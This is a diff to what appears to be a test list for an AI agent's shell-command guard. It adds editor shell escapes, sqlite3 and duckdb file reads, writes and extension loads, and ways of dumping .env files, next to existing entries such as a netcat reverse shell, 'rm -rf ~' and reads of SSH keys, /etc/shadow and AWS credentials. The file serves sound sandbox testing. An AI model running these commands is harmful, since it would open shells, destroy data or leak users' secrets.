@@ -117,6 +117,15 @@ INTERPRETERS = ask(
     "tar -I 'sh -c evil' -cf x.tar .", "rsync -e 'sh -c evil' a b:", "ssh -o ProxyCommand='sh -c evil' host",
     "zip -T -TT 'sh -c evil' x.zip f", "vim -c '!evil' f", "alias ls='rm -rf ~'", "tmux new -d 'evil'",
     "su", "sudo -s", "crontab evil.cron", "socat TCP:x:1 EXEC:sh", "nc -e /bin/sh x 1",
+    # editors run what they are given or read (`!` runs a shell; an agent has no terminal)
+    "vim +'!evil' +q f", "vi +'!evil' f", "nvim --headless +'!evil' +q", "ex +'!evil' f", "ex -sc '!evil' -c q f",
+    "ex -s f <<< '!evil'", "ed -s f <<< '!evil'", "ed f", "vim -es f < script.vim", "echo ':!evil' | vim f",
+    # SQL shells: dot-commands, file functions, scripts, ATTACH
+    "sqlite3 db <<< '.shell evil'", "echo '.system evil' | sqlite3 db", "sqlite3 db < script.sql",
+    "sqlite3 -init script.sql db .quit", "sqlite3 db '.read script.sql'", "sqlite3 db \"select writefile('/x', 'y')\"",
+    "sqlite3 db \"select load_extension('/tmp/x.so')\"", "sqlite3 db \"attach '/x/y' as z\"", "sqlite3 db '.output /x'",
+    "sqlite3 db \"select readfile('/etc/shadow')\"", "sqlite3 db \"$SQL\"", "duckdb -c \"copy t to '/x.csv'\"",
+    "duckdb -c \"select * from read_text('/etc/shadow')\"", "duckdb -c 'install httpfs; load httpfs'",
 )
 
 ENVIRONMENT = ask(
@@ -240,6 +249,7 @@ SECRET_READS = [
     "cat ~/.SSH/id_rsa", "cat ~/.ss?/id_rsa", "cat ~/.ssh/id_*", "cat .e*", "cat /etc/shadow", "less ~/.netrc",
     "cat \"$(echo ~/.ssh/id_rsa)\"", "sed -n p .env", "awk '{print}' .env", "diff .env /dev/null", "source .env",
     "sort .env", "cat ../../secret_key", "cat ~/.aws/credentials", "find ~/.ssh -type f | xargs cat",
+    "echo \"$(< .env)\"", "x=$(<.env); echo $x", "xargs -a .env echo", "xargs --arg-file=.env echo",
 )
 
 
